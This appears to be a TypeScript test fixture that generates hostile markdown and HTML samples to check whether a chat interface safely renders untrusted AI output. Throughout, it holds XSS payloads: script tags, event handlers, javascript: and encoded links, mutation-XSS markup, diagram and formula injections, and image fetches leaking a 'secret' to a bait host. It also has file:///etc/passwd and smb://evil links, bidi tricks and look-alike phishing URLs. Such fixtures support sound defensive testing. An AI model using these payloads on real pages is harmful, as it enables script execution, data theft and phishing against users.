/** Set by whatever manages to run. */
const RUN = 'window.pwned = 1'
const TICKS = '```'

/** What a model could say to a window that trusts it. `bait` is an address that nobody may ask for. */
export function hostileTexts(bait: string): Record<string, string> {
  return {
    script: `<script>${RUN}</script><script src="${bait}/script.js"></script>`,
    'image handler': `<img src=x onerror="${RUN}"> <img src=x onerror=alert(1)//>`,
    'svg handler': `<svg onload="${RUN}"><animate onbegin="${RUN}" attributeName=x dur=1s></svg>`,
    'frame with a page': `<iframe srcdoc="<script>parent.pwned = 1</script>"></iframe><iframe src="${bait}/frame"></iframe>`,
    'object and embed': `<object data="${bait}/object"></object><embed src="${bait}/embed">`,
    'script links': ['javascript', 'JaVaScRiPt', 'java\tscript', 'vbscript']
      .map(
        (scheme) =>
          `[click](${scheme}:${RUN.replaceAll(' ', '')}) <a href="${scheme}:${RUN}">a</a>`,
      )
      .join('\n'),
    'data links': `[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) <a href="data:text/html,<script>${RUN}</script>">b</a>`,
    'links to files and programs': `[a](file:///etc/passwd) [b](smb://evil/share) [c](ms-msdt:/id) [d](\\\\\\\\evil\\\\share) <file:///etc/passwd> <a href="app://bundle/../../etc/passwd">e</a>`,
    'entities in links': `<a href="&#106;avascript&colon;${RUN}">a</a> [b](&#x6A;avascript:alert(1)) <a href="jav&#x0A;ascript:${RUN}">c</a>`,
    'encoded svg': `&lt;svg onload=${RUN}&gt; <svg><script>&#119;indow.pwned=1</script></svg> <math><mtext><img src=x onerror="${RUN}"></mtext></math>`,
    'mutating markup': `<noscript><p title="</noscript><img src=x onerror='${RUN}'>"></noscript><form><math><mtext></form><form><mglyph><style></math><img src onerror="${RUN}">`,
    diagram: `${TICKS}mermaid\ngraph TD; A["<img src=x onerror='${RUN}'>"] --> B; click A "javascript:${RUN}"\n${TICKS}`,
    formula: `$$\\href{javascript:${RUN}}{x} \\htmlData{a=b}{y} \\includegraphics{${bait}/math.png} \\url{javascript:alert(1)}$$`,
    'formula that grows': '$$\\def\\a{\\b\\b}\\def\\b{\\c\\c}\\def\\c{\\a\\a}\\a$$',
    style: `<style>* { display: none !important } body { background: url(${bait}/style) }</style><div style="position:fixed;inset:0;z-index:9999;background:url(${bait}/inline)">over</div>`,
    form: `<form action="${bait}/form"><input autofocus onfocus="${RUN}" name=a><button>Send</button></form>`,
    'pictures that tell': `![a](${bait}/image?q=secret) <img src="${bait}/img"> <img srcset="${bait}/set 1x"> <picture><source srcset="${bait}/source"></picture> <video src="${bait}/video" poster="${bait}/poster" autoplay></video> <audio src="${bait}/audio" autoplay></audio>`,
    'links that are fetched': `<link rel=stylesheet href="${bait}/sheet"><link rel=prefetch href="${bait}/prefetch"><meta http-equiv=refresh content="0;url=${bait}/meta"><base href="${bait}/">`,
    'reference that tells': `![x][r]\n\n[r]: ${bait}/reference "title"`,
    'events on allowed elements': `<details open ontoggle="${RUN}"><summary>s</summary></details> <p onmouseover="${RUN}" id="root">p</p> <a name="__proto__" id="composer">c</a>`,
    'name clobbering': `<img name="api"><form id="api"><input name="call"></form><a id="api" href="${bait}/clobber">api</a>`,
    'hidden characters': `abc\u202egnp.exe\u202c \u2066admin\u2069 p\u200bass\u200dword \u001b[31mred \u0000null\n\n${TICKS}\nif (admin\u202e\u2066// check\u2069\u2066) {\n${TICKS}`,
    'look-alike link': `[https://bank.example](${bait}/phish) https://b\u0430nk.example/`,
    'code that breaks out': `${TICKS}html"><img src=x onerror="${RUN}">\n</code></pre><script>${RUN}</script>\n${TICKS}`,
  }
}
